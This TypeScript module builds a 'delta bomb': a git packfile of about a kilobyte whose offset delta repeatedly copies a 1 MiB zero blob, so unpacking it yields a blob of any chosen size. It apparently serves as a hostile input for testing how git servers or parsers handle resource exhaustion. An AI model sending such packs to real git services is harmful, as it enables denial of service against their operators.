/** Packs that no git would make. */
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

/** Numbers of seven bits a byte, the lowest first, as deltas have their sizes. */
const varint = (value: number): readonly number[] =>
  value < 128 ? [value] : [(value % 128) | 128, ...varint(Math.floor(value / 128))];

const BLOB = 3;
const OFFSET_DELTA = 6;

const header = (type: number, size: number): Buffer => {
  const [low, rest] = [size % 16, Math.floor(size / 16)];
  return Buffer.from(rest === 0 ? [(type << 4) | low] : [0x80 | (type << 4) | low, ...varint(rest)]);
};

/** How far back the base begins, in the encoding of offset deltas. */
const distance = (value: number): Buffer => {
  const bytes = [value % 128];
  for (let rest = Math.floor(value / 128); rest > 0; rest = Math.floor(rest / 128)) {
    rest -= 1;
    bytes.unshift(0x80 | (rest % 128));
  }
  return Buffer.from(bytes);
};

const packOf = (entries: readonly Buffer[]): Buffer => {
  const head = Buffer.from("PACK\0\0\0\u0002\0\0\0\0", "latin1");
  head.writeUInt32BE(entries.length, 8);
  const body = Buffer.concat([head, ...entries]);
  return Buffer.concat([body, createHash("sha1").update(body).digest()]);
};

const MIB = 1024 * 1024;

/** About a kilobyte that holds a blob of so many MiB: as a difference, which copies one MiB of zeros again and again. */
export const deltaBomb = (mebibytes: number): Buffer => {
  const base = Buffer.alloc(MIB);
  const copies = Array.from({ length: mebibytes }, () => [0xf0, 0, 0, 0x10]).flat();
  const delta = Buffer.from([...varint(MIB), ...varint(MIB * mebibytes), ...copies]);
  const first = Buffer.concat([header(BLOB, base.length), deflateSync(base)]);
  const second = [header(OFFSET_DELTA, delta.length), distance(first.length), deflateSync(delta)];
  return packOf([first, Buffer.concat(second)]);
};
